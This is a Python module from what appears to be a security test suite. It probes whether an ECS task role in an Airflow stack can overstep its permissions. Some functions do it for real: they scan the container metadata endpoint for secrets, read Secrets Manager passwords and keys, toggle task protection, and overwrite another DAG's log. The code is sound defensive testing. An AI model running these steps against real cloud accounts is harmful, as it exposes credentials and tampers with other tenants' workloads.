"""Attacks with the task role. The local AWS API enforces no IAM, so the test holds each call against the role's policy.

The evidence of such an attack begins with `iam:` and names what it needed.
"""

from __future__ import annotations

import json
import os
import urllib.request
from typing import Any

from mallory_attacks import loot
from mallory_attacks.attack import Facts, Refused, attack

TIMEOUT_S = 10


def _client(name: str) -> Any:
    import boto3

    make: Any = boto3.client
    return make(name)


def _needs(action: str, resource: str) -> str:
    return f"iam:{action} {resource}"


@attack
def metadata_endpoint(facts: Facts) -> str:
    """Find secrets in what the metadata endpoint tells."""
    base = os.environ.get("ECS_CONTAINER_METADATA_URI_V4")
    if not base:
        raise Refused("the address is not in its environment")
    said = b""
    for path in ("", "/task", "/stats", "/taskWithTags"):
        try:
            with urllib.request.urlopen(f"{base}{path}", timeout=TIMEOUT_S) as answer:  # noqa: S310 - http
                said += answer.read()
        except OSError:
            continue
    if found := loot.secrets_in(said, facts):
        return ", ".join(sorted(found))
    raise Refused(f"no secret in {len(said)} bytes")


@attack
def protection_of_its_own_worker(facts: Facts) -> str:
    """End its worker's protection through the ECS agent, so that a scale-in may stop the tasks of others."""
    base = os.environ.get("ECS_AGENT_URI")
    if not base:
        raise Refused("the address is not in its environment")
    url = f"{base}/task-protection/v1/state"
    for state in ({"ProtectionEnabled": False}, {"ProtectionEnabled": True, "ExpiresInMinutes": 60}):
        request = urllib.request.Request(  # noqa: S310 - http
            url, data=json.dumps(state).encode(), method="PUT", headers={"Content-Type": "application/json"}
        )
        with urllib.request.urlopen(request, timeout=TIMEOUT_S) as answer:  # noqa: S310
            said = answer.status
    return f"ended and restored: HTTP {said}"


@attack
def aws_protection_of_another_task(facts: Facts) -> str:
    """Change the protection of another ECS task."""
    arn = facts.tasks["airflow"]
    _client("ecs").get_task_protection(cluster=facts.cluster, tasks=[arn])
    return _needs("ecs:UpdateTaskProtection", arn)


@attack
def aws_update_service(facts: Facts) -> str:
    """Change the desired count of a service."""
    (service,) = _client("ecs").describe_services(cluster=facts.cluster, services=facts.services[:1])["services"]
    return _needs("ecs:UpdateService", service["serviceArn"])


@attack
def aws_stop_another_task(facts: Facts) -> str:
    """Stop another ECS task."""
    return _needs("ecs:StopTask", facts.tasks["airflow"])


@attack
def aws_run_a_task(facts: Facts) -> str:
    """Run a task definition with a command of its own, with the secrets of that definition."""
    (task,) = _client("ecs").describe_tasks(cluster=facts.cluster, tasks=[facts.tasks["airflow"]])["tasks"]
    return _needs("ecs:RunTask", task["taskDefinitionArn"])


@attack
def aws_open_a_shell(facts: Facts) -> str:
    """Open a shell in another ECS task."""
    return _needs("ecs:ExecuteCommand", facts.tasks["airflow"])


def _read_secret(facts: Facts, name: str) -> str:
    arn = facts.secret_arns[name]
    value = _client("secretsmanager").get_secret_value(SecretId=arn)["SecretString"]
    if not value:
        raise LookupError("an empty secret")
    return _needs("secretsmanager:GetSecretValue", arn)


@attack
def aws_read_the_databases_secret(facts: Facts) -> str:
    """Read the database's password in Secrets Manager."""
    return _read_secret(facts, "database")


@attack
def aws_read_the_brokers_secret(facts: Facts) -> str:
    """Read the broker's password in Secrets Manager."""
    return _read_secret(facts, "broker")


@attack
def aws_read_the_token_secret(facts: Facts) -> str:
    """Read the secret that signs tokens in Secrets Manager."""
    return _read_secret(facts, "jwt")


@attack
def aws_read_the_fernet_secret(facts: Facts) -> str:
    """Read the secret of the Fernet key in Secrets Manager."""
    return _read_secret(facts, "fernet")


@attack
def aws_read_the_admins_secret(facts: Facts) -> str:
    """Read the administrator's password in Secrets Manager."""
    return _read_secret(facts, "admin")


@attack
def aws_write_a_secret(facts: Facts) -> str:
    """Replace the broker's password in Secrets Manager."""
    return _needs("secretsmanager:PutSecretValue", facts.secret_arns["broker"])


@attack
def aws_invoke_the_autoscaler(facts: Facts) -> str:
    """Invoke a function of the stack."""
    return _needs("lambda:InvokeFunction", facts.functions[0])


def _log_key(facts: Facts) -> str:
    return f"logs/dag_id=victim/run_id={facts.victim['run_id']}/task_id=say/attempt=1.log"


@attack
def aws_read_the_log_of_another_dag(facts: Facts) -> str:
    """Read another DAG's task log in the bucket."""
    _client("s3").get_object(Bucket=facts.bucket, Key=_log_key(facts))["Body"].read()
    return _needs("s3:GetObject", f"arn:aws:s3:::{facts.bucket}/{_log_key(facts)}")


@attack
def aws_overwrite_the_log_of_another_dag(facts: Facts) -> str:
    """Overwrite another DAG's task log in the bucket."""
    body = _client("s3").get_object(Bucket=facts.bucket, Key=_log_key(facts))["Body"].read()
    _client("s3").put_object(Bucket=facts.bucket, Key=_log_key(facts), Body=body)
    return _needs("s3:PutObject", f"arn:aws:s3:::{facts.bucket}/{_log_key(facts)}")


@attack
def aws_delete_the_log_of_another_dag(facts: Facts) -> str:
    """Delete another DAG's task log in the bucket."""
    return _needs("s3:DeleteObject", f"arn:aws:s3:::{facts.bucket}/{_log_key(facts)}")


@attack
def aws_write_outside_the_logs(facts: Facts) -> str:
    """Write into the log bucket outside the task logs."""
    return _needs("s3:PutObject", f"arn:aws:s3:::{facts.bucket}/mallory")


@attack
def aws_assume_a_role(facts: Facts) -> str:
    """Pass or assume another role."""
    return _needs("iam:PassRole", "arn:aws:iam::123456789012:role/any")
